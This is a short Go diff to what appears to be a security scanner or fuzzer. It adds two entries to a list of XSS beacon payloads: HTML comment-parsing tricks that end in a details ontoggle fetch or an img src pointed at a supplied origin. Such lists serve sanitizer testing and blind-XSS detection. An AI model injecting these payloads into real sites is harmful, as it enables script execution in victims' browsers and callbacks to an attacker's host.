@@ -96,6 +96,8 @@ func beaconPayloads(origin string) []string {
 		`<!----><details open ontoggle=fetch('%s')>`,
 		"<!---->\n<details open ontoggle=fetch('%s')>",
 		"<!-->\n<details open ontoggle=fetch('%s')>",
+		"<!-->\n<details open ontoggle=fetch('%s') x>",
+		"<!-->\n<img src=%s x>",
 		"<!---->x\n\n<details open ontoggle=fetch('%s')>",
 		`<!----> <details open ontoggle="fetch('%s')">x</details>`,
 		`<details open ontoggle=fetch('%s')>`,
